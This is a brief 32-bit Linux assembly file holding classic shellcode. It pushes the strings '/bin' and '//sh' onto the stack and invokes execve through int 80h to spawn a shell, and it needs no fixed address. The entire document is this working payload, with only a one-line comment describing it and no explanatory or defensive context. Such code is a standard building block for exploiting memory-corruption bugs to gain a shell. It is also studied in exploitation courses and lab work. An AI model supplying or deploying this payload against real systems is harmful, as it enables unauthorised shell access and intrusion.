; Linux, 32 bit: execve("/bin/sh") with strings pushed on the stack, no address of its own needed.
bits 32
        xor eax, eax
        push eax
        push dword '//sh'
        push dword '/bin'
        mov ebx, esp
        push eax
        push ebx
        mov ecx, esp
        cdq
        mov al, 11
        int 80h
